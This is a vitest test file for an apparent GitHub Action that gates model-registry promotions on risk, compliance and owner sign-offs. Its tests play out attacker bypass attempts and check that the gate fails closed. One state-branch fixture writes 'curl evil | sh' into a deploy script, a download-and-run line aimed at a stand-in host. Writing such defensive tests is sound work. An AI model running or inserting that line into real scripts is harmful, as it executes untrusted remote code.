// The sign-off gate action against the GitHub double with real git history, written as an attacker would try it:
// every way to get a promotion past the gate without the sign-offs the base policy asks for must fail.
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { run } from '../../src/actions/signoff-gate.ts';
import { gateTargetOf, pullNumbersInMergeGroup } from '../../src/gate/target.ts';
import { git } from '../../src/git/run.ts';
import { GRAPHQL_TEMPLATE } from '../github-double/double.ts';
import { ISOLATED_GIT_ENV, mergeCommit } from '../github-double/git-store.ts';
import { useGitHubDouble } from '../github-double/harness.ts';
import { TOLLGATE_APP } from '../github-double/state.ts';
import { webhookExample } from '../github-double/webhook-examples.ts';
import { contextFromEnv } from './action-context.ts';
import { BRANCH, FULL, STAGES, stages, useGateFixture } from './gate-fixture.ts';

const gh = useGitHubDouble();
const fx = useGateFixture(gh);
const { openPromotion, approve, gate, checkRuns } = fx;

describe('the sign-off gate on a promotion', () => {
  it('passes an honest promotion with risk, compliance and the owner, in at most 5 calls among 100 reviews', async () => {
    const head = await openPromotion();
    for (let i = 0; i < 97; i++)
      await gh.state.addReview(FULL, 1, { user: `watcher${i}`, state: 'COMMENTED' });
    await approve('rita-risk', 'carol', 'alice');
    const { result, client } = await gate();
    expect(result.error).toBeUndefined();
    expect(result.conclusion).toBe('success');
    expect(result.pullRequests[0]!.verdict.requirements.map((r) => [r.role, r.satisfiedBy?.login])).toEqual([
      ['risk', 'rita-risk'],
      ['compliance', 'carol'],
      ['model-owner (fraud-detector)', 'alice'],
    ]);
    expect(client.calls()).toBeLessThanOrEqual(5);
    // Only the team-only role costs a lookup: rita and alice are listed by name.
    expect(gh.double.count('GET', '/orgs/{org}/teams/{team_slug}/memberships/{username}')).toBe(1);
    expect(checkRuns()).toHaveLength(1);
    expect(checkRuns()[0]).toMatchObject({ name: 'tollgate/signoff', headSha: head, conclusion: 'success' });
    expect(checkRuns()[0]!.summary).toContain('fraud-detector: production v4 → v5');
    // 1 query, the runs on the head, 1 membership; then the post itself.
    expect(checkRuns()[0]!.summary).toContain(
      'GitHub API: 3 calls to decide; posting this check run adds 1.',
    );
    expect(client.calls()).toBe(4);
    // The checkout was only given the head as data: still on main, nothing changed.
    expect(await git(fx.checkout, ['rev-parse', '--abbrev-ref', 'HEAD'])).toBe('main');
    expect(await git(fx.checkout, ['status', '--porcelain'])).toBe('');
  });

  it('fails when a push after the approvals moves the pointer again', async () => {
    await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    await gh.state.commit(FULL, BRANCH, { [STAGES]: stages('v3') }, 'Actually v3', 'tollgate-bot');
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    expect(checkRuns()[0]!.conclusion).toBe('failure');
    expect(checkRuns()[0]!.headSha).toBe(await gh.state.headSha(FULL, BRANCH));
    expect(checkRuns()[0]!.summary).toMatch(/rita-risk: approved [0-9a-f]{7}, not the head/);
  });

  it('judges a pull request that loosens policy.yaml by the base policy, which needs the policy owner', async () => {
    const policy = fx.registryFiles['registry/policy.yaml']!;
    const loosened = policy.replace(
      / {8}- risk\n {8}- compliance\n {8}- model-owner\n/,
      '        - model-owner\n',
    );
    expect(loosened).not.toBe(policy);
    await gh.state.commit(
      FULL,
      'loosen',
      { 'registry/policy.yaml': loosened },
      'Simplify sign-off',
      'mallory',
    );
    gh.state.openPull(FULL, { head: 'loosen', user: 'mallory' });
    await gh.state.addReview(FULL, 1, { user: 'alice', state: 'APPROVED' });
    const head = await gh.state.headSha(FULL, 'loosen');
    const { result } = await gate({
      event: ['pull_request_target', { number: 1, pull_request: { number: 1, head: { sha: head } } }],
    });
    expect(result.conclusion).toBe('failure');
    const [requirement] = result.pullRequests[0]!.verdict.requirements;
    expect(requirement).toMatchObject({ role: 'policy-owner', candidates: ['@paula-policy'] });
    expect(requirement!.satisfiedBy).toBeUndefined();

    await gh.state.addReview(FULL, 1, { user: 'paula-policy', state: 'APPROVED' });
    expect((await gate({ event: ['pull_request_target', { number: 1 }] })).result.conclusion).toBe('success');
  });

  it('blocks a promotion that also adds a workflow file, whatever the approvals', async () => {
    await openPromotion({ '.github/workflows/sneaky.yml': 'on: push\njobs: {}\n' });
    await approve('rita-risk', 'carol', 'alice');
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    expect(result.pullRequests[0]!.verdict.blocking.join('\n')).toMatch(
      /mixed change.*\.github\/workflows\/sneaky\.yml/,
    );
  });

  it('blocks, whatever the approvals, a version held on main since the branch forked, and one that skips staging', async () => {
    await openPromotion();
    // An incident holds v5 on main after the promotion branch was cut: the head's copy of v5.yaml is not held.
    const v5 = 'registry/models/fraud-detector/versions/v5.yaml';
    const held = `${fx.registryFiles[v5]!.trimEnd()}\nheld:\n  reason: INC-9 error rate\n  at: '2026-11-24T00:00:00Z'\n  by: oncall\n`;
    await gh.state.commit(FULL, 'main', { [v5]: held }, 'Hold v5');
    await approve('rita-risk', 'carol', 'alice');
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    expect(result.pullRequests[0]!.verdict.blocking).toEqual([
      expect.stringContaining('version v5 is held (on the base branch: INC-9 error rate)'),
    ]);
    // Written by hand: production straight to v2, which never held staging.
    await gh.state.commit(FULL, BRANCH, { [STAGES]: stages('v2') }, 'Straight to production', 'tollgate-bot');
    const skip = await gate();
    // v5, which the first commit set and the second replaced, would reach main's history through a rebase merge.
    expect(skip.result.pullRequests[0]!.verdict.blocking).toEqual([
      expect.stringContaining('fraud-detector: production → v2: skips a stage'),
      expect.stringMatching(/fraud-detector: commit \w{7} points production at v5, which neither main nor/),
    ]);
  });

  it('judges by the base branch as it is now, not the stale base sha GitHub keeps on the pull request', async () => {
    const forkedFrom = await gh.state.headSha(FULL, 'main');
    await openPromotion();
    // After the pull request opened, main made compliance's approval insufficient: only rita-risk is risk now.
    const policy = fx.registryFiles['registry/policy.yaml']!.replace(
      '    teams:\n      - acme/model-risk\n',
      '',
    );
    await gh.state.commit(FULL, 'main', { 'registry/policy.yaml': policy }, 'Risk is rita only');
    gh.state.setCollaborator(FULL, 'helper', 'write');
    await approve('helper', 'carol', 'alice'); // helper is in acme/model-risk, which no longer fills risk
    // GitHub's baseRefOid is the base tip when the pull request was last synchronised, not the branch's tip.
    const client = gh.client();
    const graphql = client.octokit.graphql;
    client.octokit.graphql = (async (query: string, variables: Record<string, unknown>) => {
      const answer = (await graphql(query, variables)) as {
        repository?: { pullRequest?: { baseRefOid?: string } };
      };
      if (answer.repository?.pullRequest?.baseRefOid) answer.repository.pullRequest.baseRefOid = forkedFrom;
      return answer;
    }) as typeof graphql;
    const { result } = await gate({ client });
    expect(result.error).toBeUndefined();
    expect(result.conclusion).toBe('failure');
    const risk = result.pullRequests[0]!.verdict.requirements.find((r) => r.role === 'risk')!;
    expect(risk.satisfiedBy).toBeUndefined();
    expect(risk.candidates).toEqual(['@rita-risk']);
  });

  it('never lets a pass into another branch stand for the default branch on the same head commit', async () => {
    // non_default_branch: none lets pull requests into release through unsigned; the check is per commit.
    const policy = fx.registryFiles['registry/policy.yaml']!.replace(
      'signoff:\n',
      'signoff:\n  non_default_branch: none\n',
    );
    await gh.state.commit(FULL, 'main', { 'registry/policy.yaml': policy }, 'Release PRs need no sign-off');
    await gh.state.commit(FULL, 'release', { 'RELEASE.md': 'release line\n' }, 'Cut release');
    await git(fx.checkout, ['pull', '--quiet', '--ff-only'], { env: ISOLATED_GIT_ENV });
    const head = await openPromotion(); // #1, into main, unsigned
    gh.state.openPull(FULL, { head: BRANCH, base: 'release', user: 'eve' }); // #2, same head, into release
    const intoMain = await gate();
    expect(intoMain.result.conclusion).toBe('failure');
    const intoRelease = await gate({
      event: ['pull_request_target', { number: 2, pull_request: { number: 2, head: { sha: head } } }],
    });
    expect(intoRelease.result.conclusion).toBe('success');
    const onHead = checkRuns().filter((r) => r.headSha === head);
    expect(onHead.find((r) => r.name === 'tollgate/signoff')!.conclusion).toBe('failure');
    expect(onHead.find((r) => r.name === 'tollgate/signoff (into release)')!.conclusion).toBe('success');
  });

  it('does not count the approval of the person who asked for the promotion (Requested-By)', async () => {
    await openPromotion({}, 'rita-risk');
    await approve('rita-risk', 'carol', 'alice'); // rita holds risk, but she asked for this promotion
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    const risk = result.pullRequests[0]!.verdict.requirements.find((r) => r.role === 'risk')!;
    expect(risk.satisfiedBy).toBeUndefined();
    expect(risk.reason).toMatch(/rita-risk: is an author/);
    expect(risk.candidates).not.toContain('@rita-risk');
  });

  it('does not count a pending team member, a reader with the role, or a bot', async () => {
    // The base policy names a bot account under risk: its approval still does not count.
    const policy = fx.registryFiles['registry/policy.yaml']!.replace(
      '      - rita-risk\n',
      '      - rita-risk\n      - helper-app[bot]\n',
    );
    await gh.state.commit(FULL, 'main', { 'registry/policy.yaml': policy }, 'Risk bot');
    await git(fx.checkout, ['pull', '--quiet', '--ff-only'], { env: ISOLATED_GIT_ENV });
    await openPromotion();
    gh.state.setCollaborator(FULL, 'rita-risk', 'read');
    await approve('rita-risk', 'helper-app[bot]', 'paul', 'alice');
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    const byRole = Object.fromEntries(result.pullRequests[0]!.verdict.requirements.map((r) => [r.role, r]));
    expect(byRole.risk!.satisfiedBy).toBeUndefined();
    expect(byRole.risk!.reason).toMatch(/rita-risk: has read access/);
    expect(byRole.risk!.reason).toMatch(/helper-app\[bot\]: is a bot/);
    expect(byRole.compliance!.satisfiedBy).toBeUndefined();
    expect(byRole.compliance!.reason).toMatch(/paul: invitation to acme\/compliance is still pending/);
    expect(byRole['model-owner (fraud-detector)']!.satisfiedBy?.login).toBe('alice');
  });
  it('needs only the owner to move production back to a version that held it, and full sign-off otherwise', async () => {
    // On main, production went v3 -> v4 through the gate; v2 never held production.
    await gh.state.commit(FULL, 'main', { [STAGES]: stages('v3') }, 'Promote v3');
    await gh.state.commit(FULL, 'main', { [STAGES]: stages('v4') }, 'Promote v4');
    await git(fx.checkout, ['pull', '--quiet', '--ff-only'], { env: ISOLATED_GIT_ENV });
    await gh.state.commit(FULL, 'rollback', { [STAGES]: stages('v3') }, 'Roll back to v3', 'tollgate-bot');
    gh.state.openPull(FULL, { head: 'rollback', user: 'tollgate-bot' });
    await gh.state.addReview(FULL, 1, { user: 'alice', state: 'APPROVED' });
    const rolledBack = await gate({ event: ['pull_request_target', { number: 1 }] });
    expect(rolledBack.result.conclusion).toBe('success');
    expect(rolledBack.result.summary).toContain('production v4 → v3 (rollback)');

    // Calling a move to v2 a rollback does not make it one.
    await gh.state.commit(
      FULL,
      'fake-rollback',
      { [STAGES]: stages('v2') },
      'Roll back to v2',
      'tollgate-bot',
    );
    gh.state.openPull(FULL, { head: 'fake-rollback', user: 'tollgate-bot' });
    await gh.state.addReview(FULL, 2, { user: 'alice', state: 'APPROVED' });
    const fake = await gate({ event: ['pull_request_target', { number: 2 }] });
    expect(fake.result.conclusion).toBe('failure');
    expect(fake.result.pullRequests[0]!.verdict.requirements.map((r) => r.role)).toEqual([
      'risk',
      'compliance',
      'model-owner (fraud-detector)',
    ]);
  });
  it('with allow_stale_approvals, keeps approvals across pushes that leave the registry alone, and only those', async () => {
    const policy = fx.registryFiles['registry/policy.yaml']!.replace(
      'signoff:\n',
      'signoff:\n  allow_stale_approvals: true\n',
    );
    await gh.state.commit(FULL, 'main', { 'registry/policy.yaml': policy }, 'Allow stale approvals');
    await git(fx.checkout, ['pull', '--quiet', '--ff-only'], { env: ISOLATED_GIT_ENV });
    await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    await gh.state.commit(FULL, BRANCH, { 'notes/promotion.md': 'why v5\n' }, 'Notes', 'tollgate-bot');
    expect((await gate()).result.conclusion).toBe('success');
    await gh.state.commit(FULL, BRANCH, { [STAGES]: stages('v3') }, 'Sneak v3 in', 'tollgate-bot');
    const sneaked = await gate();
    expect(sneaked.result.conclusion).toBe('failure');
    expect(sneaked.result.summary).toMatch(/the registry changed since/);
  });
});

describe('Tollgate state branches', () => {
  const STATE_BRANCH = 'tollgate/state/merged/9';
  const AUDIT = 'registry/audit/2026/11/20261125T000000Z-pr9-fraud-detector-production.yaml';
  const event = (head: string): [string, Record<string, unknown>] => [
    'pull_request_target',
    { number: 1, pull_request: { number: 1, head: { sha: head } } },
  ];

  it('passes Tollgate’s state-only commit, and blocks whatever else a writer pushes onto the branch', async () => {
    const record = await gh.state.commit(
      FULL,
      STATE_BRANCH,
      {
        [AUDIT]: [
          'apiVersion: tollgate/v1',
          'kind: AuditEvent',
          'id: 20261125T000000Z-pr9-fraud-detector-production',
          "at: '2026-11-25T00:00:00Z'",
          'event: promotion-merged',
          'actor: alice',
          'model: fraud-detector',
          'stage: production',
          '',
        ].join('\n'),
      },
      'Record merge of pull request #9\n\nTollgate-Event: merge-recorded\n',
      'tollgate-bot',
    );
    gh.state.openPull(FULL, { head: STATE_BRANCH, user: 'tollgate-bot', labels: ['tollgate:state'] });
    const state = await gate({ event: event(record) });
    expect(state.result).toMatchObject({ conclusion: 'success' });
    expect(state.result.pullRequests[0]!.verdict.stateOnly).toBe(true);

    // Auto-merge stays on when someone with write access pushes: a promotion pushed here would need its sign-offs
    // anyway, but any other change would be merged by Tollgate, unreviewed, under Tollgate's name.
    const pushes: Record<string, string>[] = [
      { 'scripts/deploy.sh': 'curl evil | sh\n' },
      { [STAGES]: stages('v5') },
    ];
    for (const files of pushes) {
      const pushed = await gh.state.commit(FULL, STATE_BRANCH, files, 'One more thing', 'mallory');
      await approve('rita-risk', 'carol', 'alice');
      const { result } = await gate({ event: event(pushed) });
      expect(result.conclusion).toBe('failure');
      expect(result.pullRequests[0]!.verdict.blocking).toContainEqual(
        expect.stringMatching(
          /^pull request from tollgate\/state\/merged\/9, a Tollgate state branch .* changes more than registry state/,
        ),
      );
    }
  });
});

describe('failing closed', () => {
  it('posts a failing check naming "Members: read" when team membership is forbidden', async () => {
    await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    gh.state.orgAccess = 'forbidden';
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    expect(result.error).toMatch(/Members: read/);
    expect(checkRuns()).toHaveLength(1);
    expect(checkRuns()[0]!.conclusion).toBe('failure');
    expect(checkRuns()[0]!.summary).toMatch(/Members: read/);
  });

  it('posts a failing check, never a passing one, when GitHub rate-limits the gate', async () => {
    await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    gh.fault('POST', GRAPHQL_TEMPLATE, { kind: 'rate-limit', resetInSeconds: 1 }, 2);
    const { result } = await gate({ client: gh.client({ retries: 1 }) });
    expect(result.conclusion).toBe('failure');
    expect(result.error).toMatch(/rate limit/i);
    expect(checkRuns().map((run) => [run.conclusion, run.title])).toEqual([
      ['failure', expect.stringMatching(/^Could not evaluate, failed closed: /)],
    ]);
    // Once GitHub answers again, a re-run of the job evaluates and replaces the failure on the same check run.
    const rerun = await gate({ client: gh.client({ retries: 1 }) });
    expect(rerun.result.conclusion).toBe('success');
    expect(checkRuns().map((run) => run.conclusion)).toEqual(['success']);
  });

  it('fails the job and posts nothing when the whole budget is spent (no check is better than a passing one)', async () => {
    const head = await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    gh.state.rateLimit.remaining = 0;
    const { result } = await gate({ client: gh.client({ retries: 0 }) });
    expect(result).toMatchObject({ conclusion: 'failure', headSha: head });
    expect(result.error).toMatch(/could not post the tollgate\/signoff check run/);
    expect(checkRuns()).toHaveLength(0);
  });

  it('fails closed on a shallow checkout, saying how to fix it', async () => {
    await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    await rm(fx.checkout, { recursive: true, force: true });
    await git(
      fx.work,
      ['clone', '--quiet', '--depth=1', `file://${gh.state.repo(FULL).gitDir}`, fx.checkout],
      {
        env: ISOLATED_GIT_ENV,
      },
    );
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    expect(checkRuns()[0]!.summary).toMatch(/fetch-depth: 0/);
  });

  it('fails closed when the base policy itself is invalid', async () => {
    await gh.state.commit(
      FULL,
      'main',
      { 'registry/policy.yaml': 'apiVersion: tollgate/v1\nkind: Policy\nroles: 7\n' },
      'Break',
    );
    await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    const { result } = await gate();
    expect(result.conclusion).toBe('failure');
    expect(checkRuns()[0]!.summary).toMatch(/policy\.yaml .* is invalid/);
  });

  it('a re-run updates the same check run', async () => {
    await openPromotion();
    await approve('rita-risk', 'carol');
    expect((await gate()).result.conclusion).toBe('failure');
    await approve('alice');
    expect((await gate()).result.conclusion).toBe('success');
    expect(checkRuns()).toHaveLength(1);
    expect(checkRuns()[0]!.conclusion).toBe('success');
  });

  it('leaves the check of a merged pull request as it stood at the merge when a late review re-runs the gate', async () => {
    await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    expect((await gate()).result.conclusion).toBe('success');
    const before = structuredClone(checkRuns());
    await gh.state.mergePull(FULL, 1, 'alice');
    await gh.state.addReview(FULL, 1, { user: 'rita-risk', state: 'CHANGES_REQUESTED' });
    const { result } = await gate();
    expect(result.title).toMatch(/is merged: its check stays as it was/);
    expect(checkRuns()).toEqual(before);
  });
});

describe('events', () => {
  it("reads the pull request, the relayed review and the merge group from GitHub's example payloads", () => {
    const pull = webhookExample('pull_request', { action: 'synchronize' });
    expect(gateTargetOf('pull_request_target', pull)).toEqual({
      kind: 'pull-request',
      number: pull.pull_request.number,
      headSha: pull.pull_request.head.sha,
    });
    const listed = webhookExample('workflow_run', { where: (e) => e.workflow_run.pull_requests.length > 0 });
    expect(gateTargetOf('workflow_run', listed)).toEqual({
      kind: 'pull-request',
      number: listed.workflow_run.pull_requests[0]!.number,
      headSha: listed.workflow_run.head_sha,
    });
    // A fork's pull request is not listed on the run: the head branch and its owner find it.
    const fork = webhookExample('workflow_run', { action: 'completed' });
    expect(fork.workflow_run.pull_requests).toEqual([]);
    expect(gateTargetOf('workflow_run', fork)).toEqual({
      kind: 'pull-request',
      headSha: fork.workflow_run.head_sha,
      headBranch: fork.workflow_run.head_branch,
      headOwner: fork.workflow_run.head_repository.owner.login,
    });
    const group = webhookExample('merge_group', { action: 'checks_requested' });
    expect(gateTargetOf('merge_group', group)).toEqual({
      kind: 'merge-group',
      headSha: group.merge_group.head_sha,
      baseSha: group.merge_group.base_sha,
      headRef: group.merge_group.head_ref,
    });
    expect(pullNumbersInMergeGroup(group.merge_group.head_ref, [])).toEqual([104]);
  });

  it("never rewrites a merged pull request's check when a review is relayed from a fork (no pull_requests on the run)", async () => {
    const head = await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    expect((await gate()).result.conclusion).toBe('success');
    const before = structuredClone(checkRuns());
    await gh.state.mergePull(FULL, 1, 'alice');
    await gh.state.addReview(FULL, 1, { user: 'rita-risk', state: 'CHANGES_REQUESTED' });
    // GitHub's workflow_run example as the relay of that review arrives: no pull_requests, the head branch only.
    const relayed = webhookExample('workflow_run', { action: 'completed' });
    relayed.workflow_run.head_sha = head;
    relayed.workflow_run.head_branch = BRANCH;
    relayed.workflow_run.head_repository.owner.login = 'acme';
    const { result } = await gate({ event: ['workflow_run', relayed as unknown as Record<string, unknown>] });
    expect(result).toMatchObject({ conclusion: 'success', pullRequests: [] });
    expect(result.title).toBe(`No open pull request from acme:${BRANCH}: nothing to judge, no check posted`);
    expect(result.headSha).toBeUndefined();
    expect(checkRuns()).toEqual(before);
  });

  it('finds the pull request of a relayed review (workflow_run) by its branch when the run lists none', async () => {
    const head = await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    const { result } = await gate({
      event: [
        'workflow_run',
        {
          workflow_run: {
            head_sha: head,
            head_branch: BRANCH,
            head_repository: { owner: { login: 'acme' } },
            pull_requests: [],
          },
        },
      ],
    });
    expect(result).toMatchObject({ conclusion: 'success', headSha: head });
    expect(result.pullRequests.map((p) => p.number)).toEqual([1]);
  });

  it('answers a merge group on its head: each pull request in it must pass, and nothing else may ride along', async () => {
    const prHead = await openPromotion();
    await approve('rita-risk', 'carol', 'alice');
    const { gitDir } = gh.state.repo(FULL);
    const base = (await gh.state.headSha(FULL, 'main'))!;
    const who = { name: 'github-merge-queue', email: 'queue@example.com' };
    const groupHead = await mergeCommit(
      gitDir,
      base,
      prHead,
      `Merge pull request #1 from acme/${BRANCH}`,
      who,
      '2026-11-25T10:00:00Z',
    );
    const headRef = `refs/heads/gh-readonly-queue/main/pr-1-${base}`;
    await git(gitDir, ['update-ref', headRef, groupHead], { env: ISOLATED_GIT_ENV });
    const event = (head: string): [string, Record<string, unknown>] => [
      'merge_group',
      { merge_group: { head_sha: head, base_sha: base, head_ref: headRef, base_ref: 'refs/heads/main' } },
    ];
    const passed = await gate({ event: event(groupHead) });
    expect(passed.result).toMatchObject({ conclusion: 'success', headSha: groupHead });
    expect(checkRuns().find((run) => run.headSha === groupHead)?.conclusion).toBe('success');

    // A group whose head carries a change no pull request in it made.
    await git(gitDir, ['update-ref', 'refs/heads/smuggle', groupHead], { env: ISOLATED_GIT_ENV });
    const smuggled = await gh.state.commit(
      FULL,
      'smuggle',
      {
        'registry/models/churn-predictor/stages.yaml': fx.registryFiles[
          'registry/models/churn-predictor/stages.yaml'
        ]!.replace(/production:\n {4}version: v\d+/, 'production:\n    version: v1'),
      },
      'queue noise',
      'mallory',
    );
    const failed = await gate({ event: event(smuggled) });
    expect(failed.result.conclusion).toBe('failure');
    expect(failed.result.summary).toMatch(/no pull request in the group explains/);
  });

  it('reads targets from events and pull request numbers from merge groups (pure)', () => {
    expect(
      gateTargetOf('pull_request', { number: 4, pull_request: { number: 4, head: { sha: 'a' } } }),
    ).toEqual({
      kind: 'pull-request',
      number: 4,
      headSha: 'a',
    });
    expect(() => gateTargetOf('push', {})).toThrow(/does not run on push/);
    expect(
      pullNumbersInMergeGroup('refs/heads/gh-readonly-queue/main/pr-12-0123abc', [
        'Merge pull request #9 from acme/x',
        'Promote fraud v5 (#10)',
        'plain commit',
      ]),
    ).toEqual([9, 10, 12]);
  });
});

describe('run()', () => {
  it('reads the workflow environment, sets the conclusion output and fails the job on a failing verdict', async () => {
    const head = await openPromotion();
    await approve('rita-risk', 'carol');
    const saved = { ...process.env };
    vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
    const event = join(fx.work, 'event.json');
    const output = join(fx.work, 'output');
    const summary = join(fx.work, 'summary.md');
    // GitHub's pull_request.synchronize example, for pull request #1 of acme/models at this head.
    const payload = webhookExample('pull_request', { action: 'synchronize' });
    payload.number = 1;
    payload.pull_request.number = 1;
    payload.pull_request.head.sha = head;
    payload.repository.default_branch = 'main';
    await writeFile(event, JSON.stringify(payload));
    const go = async () => {
      await writeFile(output, '');
      await writeFile(summary, '');
      process.exitCode = 0;
      await run(contextFromEnv());
      const text = await readFile(output, 'utf8');
      return {
        conclusion: /^conclusion<<(\S+)\n(.*)\n\1$/m.exec(text)?.[2],
        summary: await readFile(summary, 'utf8'),
        exitCode: process.exitCode,
      };
    };
    try {
      Object.assign(process.env, ISOLATED_GIT_ENV, {
        GITHUB_REPOSITORY: FULL,
        GITHUB_WORKSPACE: fx.checkout,
        GITHUB_EVENT_NAME: 'pull_request_target',
        GITHUB_EVENT_PATH: event,
        GITHUB_OUTPUT: output,
        GITHUB_STEP_SUMMARY: summary,
        GITHUB_API_URL: gh.double.baseUrl,
        INPUT_TOKEN: 'test-token',
        'INPUT_APP-ID': String(TOLLGATE_APP.id),
        'INPUT_CHECK-NAME': '',
        INPUT_REGISTRY: '',
      });
      const failing = await go();
      expect(failing).toMatchObject({ conclusion: 'failure', exitCode: 1 });
      expect(failing.summary).toMatch(/2 of 3 sign-offs; missing: model-owner/);
      await approve('alice');
      const passing = await go();
      expect(passing.conclusion).toBe('success');
      expect(passing.exitCode).not.toBe(1);
      expect(passing.summary).toMatch(/GitHub API: \d+ calls/);
      expect(checkRuns()).toEqual([
        expect.objectContaining({ name: 'tollgate/signoff', conclusion: 'success' }),
      ]);
    } finally {
      process.env = saved;
      process.exitCode = 0;
      vi.restoreAllMocks();
    }
  });
});
